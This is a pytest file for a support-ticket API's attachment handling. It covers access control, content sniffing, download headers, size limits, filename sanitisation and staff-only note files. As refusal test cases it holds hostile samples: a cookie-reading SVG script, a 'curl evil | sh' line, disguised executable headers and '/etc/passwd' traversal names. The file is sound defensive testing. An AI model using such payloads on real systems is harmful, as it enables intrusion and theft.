"""Attachments through the tickets API, in process: who may upload and download, what is
refused by content, how files are served, and that a note's file never reaches a customer."""

import io
import os
import uuid
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from berth_testing.people import Person, sql
from berth_testing.plugin import app_client, trust_keys
from berth_tickets.attachments.content import RefusedContent, safe_filename, sniff
from berth_tickets.attachments.multipart import TooLarge, read_upload
from berth_tickets.attachments.settings import get_attachment_settings
from berth_tickets.config import TicketsSettings

API = "/api/tickets/v1"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06" + b"\0" * 64
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


@pytest.fixture(scope="module")
async def http(berth_env: dict[str, str], public_jwks: dict) -> AsyncIterator[httpx.AsyncClient]:
    from berth_tickets.main import create_app

    app: FastAPI = create_app(TicketsSettings())
    async with app_client(app) as client:
        trust_keys(app, public_jwks)
        client.app = app  # type: ignore[attr-defined]
        yield client


@pytest.fixture(scope="module")
def db(http) -> async_sessionmaker[AsyncSession]:
    return http.app.state.db.sessionmaker


@pytest.fixture
def person(signing_jwks):
    return lambda *roles: Person(signing_jwks, list(roles) or ["user"])


class Desk:
    """A department with an agent, a customer's ticket with its first message, and a note."""

    def __init__(self, db, person) -> None:
        self.db = db
        self.customer = person("user")
        self.agent = person("user", "support")
        self.admin = person("user", "admin")
        self.other_support = person("user", "support")  # support, not of this department
        self.stranger = person("user")

    async def build(self) -> "Desk":
        [(self.department,)] = await sql(
            self.db,
            "INSERT INTO tickets.departments (slug, name) VALUES (:s, 'Technical') RETURNING id",
            s=f"tech-{uuid.uuid4().hex[:8]}",
        )
        await sql(
            self.db,
            "INSERT INTO tickets.department_agents (department_id, agent_id) VALUES (:d, :a)",
            d=self.department,
            a=self.agent.id,
        )
        [(self.ticket,)] = await sql(
            self.db,
            "INSERT INTO tickets.tickets (owner_id, department_id, subject, plan_tier) "
            "VALUES (:o, :d, 'It broke', 'standard') RETURNING id",
            o=self.customer.id,
            d=self.department,
        )
        self.message = await self.post_message("customer", self.customer)
        self.staff_message = await self.post_message("staff", self.agent)
        [(self.note,)] = await sql(
            self.db,
            "INSERT INTO tickets.internal_notes (ticket_id, author_id, body) "
            "VALUES (:t, :a, 'customer is on the old plan') RETURNING id",
            t=self.ticket,
            a=self.agent.id,
        )
        return self

    async def post_message(self, kind: str, who: Person) -> uuid.UUID:
        [(message,)] = await sql(
            self.db,
            "INSERT INTO tickets.ticket_messages (ticket_id, author_kind, author_id, body) "
            "VALUES (:t, :k, :a, 'see the file') RETURNING id",
            t=self.ticket,
            k=kind,
            a=who.id,
        )
        return message


@pytest.fixture
async def desk(db, person) -> Desk:
    return await Desk(db, person).build()


def upload(content: bytes, name: str = "screenshot.png") -> dict:
    return {"files": {"file": (name, content, "application/octet-stream")}}


async def attach(http, desk: Desk, who: Person, content: bytes, name: str = "a.png", **kw):
    message = kw.get("message", desk.message)
    return await http.post(
        f"{API}/tickets/{desk.ticket}/messages/{message}/attachments",
        headers=who.headers,
        **upload(content, name),
    )


async def test_owner_and_staff_upload_and_download_others_are_refused(http, desk) -> None:
    r = await attach(http, desk, desk.customer, PNG, "screen.png")
    assert r.status_code == 201, r.text
    mine = r.json()
    assert mine["content_type"] == "image/png" and mine["size_bytes"] == len(PNG)
    assert mine["message_id"] == str(desk.message)
    r = await attach(
        http, desk, desk.agent, b"trace line 1\n", "trace.log", message=desk.staff_message
    )
    assert r.status_code == 201, r.text
    staffs = r.json()

    for who in (desk.customer, desk.agent, desk.admin):
        for item, content in ((mine, PNG), (staffs, b"trace line 1\n")):
            r = await http.get(f"{API}/attachments/{item['id']}", headers=who.headers)
            assert r.status_code == 200, r.text
            assert r.content == content
    r = await http.get(f"{API}/tickets/{desk.ticket}/attachments", headers=desk.customer.headers)
    assert {a["id"] for a in r.json()} == {mine["id"], staffs["id"]}

    # support staff of another department see the files as they see the ticket (the desk's
    # rule: every support person works every department's queue)
    r = await http.get(f"{API}/attachments/{mine['id']}", headers=desk.other_support.headers)
    assert r.status_code == 200 and r.content == PNG
    # another customer: 403, on every route
    for who in (desk.stranger,):
        r = await http.get(f"{API}/attachments/{mine['id']}", headers=who.headers)
        assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden"
        r = await http.get(f"{API}/tickets/{desk.ticket}/attachments", headers=who.headers)
        assert r.status_code == 403
        r = await attach(http, desk, who, PNG)
        assert r.status_code == 403
    r = await http.get(f"{API}/attachments/{uuid.uuid4()}", headers=desk.customer.headers)
    assert r.status_code == 404
    # nobody attaches to someone else's message, even on their own ticket
    r = await attach(http, desk, desk.customer, PNG, message=desk.staff_message)
    assert r.status_code == 403
    rows = await sql(
        http_db(http),
        "SELECT count(*) FROM tickets.attachments WHERE ticket_id = :t",
        t=desk.ticket,
    )
    assert rows == [(2,)]


def http_db(http) -> async_sessionmaker[AsyncSession]:
    return http.app.state.db.sessionmaker


async def test_downloads_are_attachments_never_sniffed_or_rendered(http, desk) -> None:
    r = await attach(http, desk, desk.customer, "résumé line\n".encode(), "ré sumé;.txt")
    assert r.status_code == 201, r.text
    r = await http.get(f"{API}/attachments/{r.json()['id']}", headers=desk.customer.headers)
    assert r.status_code == 200
    assert r.headers["content-type"] == "text/plain; charset=utf-8"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-security-policy"] == "default-src 'none'; sandbox"
    disposition = r.headers["content-disposition"]
    assert disposition.startswith("attachment; ")
    assert disposition == (
        "attachment; filename=\"r_ sum__.txt\"; filename*=UTF-8''r%C3%A9%20sum%C3%A9_.txt"
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("cute-cat.png", b"\x7fELF\x02\x01\x01" + b"\0" * 200),  # ELF
        ("invoice.pdf", b"MZ\x90\x00\x03" + b"\0" * 200),  # PE
        ("photo.jpg", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\0" * 200),  # Mach-O
        ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n"),  # a script
        ("logo.png", SVG),  # SVG with a script, named as an image
        ("page.txt", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    ],
)
async def test_content_decides_disguised_executables_and_markup_are_refused(
    http, desk, name: str, content: bytes
) -> None:
    r = await attach(http, desk, desk.customer, content, name)
    assert r.status_code == 422, r.text
    assert r.json()["error"]["code"] == "attachment_type_refused"
    rows = await sql(
        http_db(http),
        "SELECT count(*) FROM tickets.attachments WHERE ticket_id = :t",
        t=desk.ticket,
    )
    assert rows == [(0,)]


async def test_an_oversize_file_is_refused_with_413(http, desk) -> None:
    limit = get_attachment_settings().attachment_max_bytes
    r = await attach(http, desk, desk.customer, PNG + b"\0" * limit, "big.png")
    assert r.status_code == 413
    assert r.json()["error"]["code"] == "attachment_too_large"


async def test_the_upload_stops_reading_past_the_limit() -> None:
    boundary = "b0undary"
    read = 0

    async def body() -> AsyncIterator[bytes]:
        nonlocal read
        head = (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="x.txt"\r\n\r\n'
        ).encode()
        read += len(head)
        yield head
        for _ in range(1000):  # 64 MB if it were all read
            read += 65536
            yield b"a" * 65536

    with pytest.raises(TooLarge):
        await read_upload(f"multipart/form-data; boundary={boundary}", None, body(), 1024 * 1024)
    assert read < 2 * 1024 * 1024  # stopped right after the limit


async def test_traversal_names_are_only_display_names(http, desk) -> None:
    for raw in (
        "../../../../etc/passwd",
        "..\\..\\boot.ini",
        "/abs/path.txt",
        "a\x00b\r\nc.txt",
        "..",
        "x" * 500 + ".txt",
    ):
        r = await attach(http, desk, desk.customer, b"plain text\n", raw)
        assert r.status_code == 201, (raw, r.text)
        name = r.json()["filename"]
        assert "/" not in name and "\\" not in name and "\x00" not in name and "\n" not in name
        assert not name.startswith(".") and len(name) <= 120
    rows = await sql(
        http_db(http),
        "SELECT storage_key, filename FROM tickets.attachments WHERE ticket_id = :t",
        t=desk.ticket,
    )
    stored_inside_the_root([key for key, _ in rows])


async def test_a_notes_file_is_for_staff_only(http, desk) -> None:
    r = await http.post(
        f"{API}/staff/tickets/{desk.ticket}/notes/{desk.note}/attachments",
        headers=desk.agent.headers,
        **upload(b"internal: customer owes 300\n", "internal.txt"),
    )
    assert r.status_code == 201, r.text
    note_file = r.json()
    assert note_file["note_id"] == str(desk.note) and note_file["message_id"] is None

    r = await http.get(f"{API}/attachments/{note_file['id']}", headers=desk.customer.headers)
    assert r.status_code == 404
    r = await http.get(f"{API}/tickets/{desk.ticket}/attachments", headers=desk.customer.headers)
    assert note_file["id"] not in {a["id"] for a in r.json()}
    r = await http.get(
        f"{API}/staff/tickets/{desk.ticket}/attachments", headers=desk.customer.headers
    )
    assert r.status_code == 403
    r = await http.post(
        f"{API}/staff/tickets/{desk.ticket}/notes/{desk.note}/attachments",
        headers=desk.customer.headers,
        **upload(b"x\n", "x.txt"),
    )
    assert r.status_code == 403

    r = await http.get(f"{API}/attachments/{note_file['id']}", headers=desk.agent.headers)
    assert r.status_code == 200 and r.content == b"internal: customer owes 300\n"
    r = await http.get(f"{API}/staff/tickets/{desk.ticket}/attachments", headers=desk.agent.headers)
    assert [a["note_id"] for a in r.json()] == [str(desk.note)]


def stored_inside_the_root(keys: list[str]) -> None:
    root = Path(os.environ["TICKETS_ATTACHMENTS_DIR"]).resolve()
    for key in keys:
        assert len(key) == 40 and all(c in "0123456789abcdef" for c in key)
        stored = root / key[:2] / key
        assert stored.is_file() and stored.resolve().is_relative_to(root)
    assert not (root.parent / "etc").exists()


def test_sniffing_accepts_the_allow_list() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("logs/app.log", "boom")
    assert sniff(PNG) == "image/png"
    assert sniff(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\0" * 32) == "image/jpeg"
    assert sniff(b"GIF89a" + b"\0" * 32) == "image/gif"
    assert sniff(b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\0" * 32) == "image/webp"
    assert sniff(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") == "application/pdf"
    assert sniff(buf.getvalue()) == "application/zip"
    assert sniff("2026-11-30 ERROR naïve <b> in line\n".encode()) == "text/plain"
    for refused in (b"", b"\x00\x01\x02\x03" * 40, SVG, b"\xef\xbb\xbf<?xml version='1.0'?><svg/>"):
        with pytest.raises(RefusedContent):
            sniff(refused)
    assert safe_filename("../../etc/passwd", "text/plain") == "passwd"
    assert safe_filename("..", "image/png") == "attachment.png"
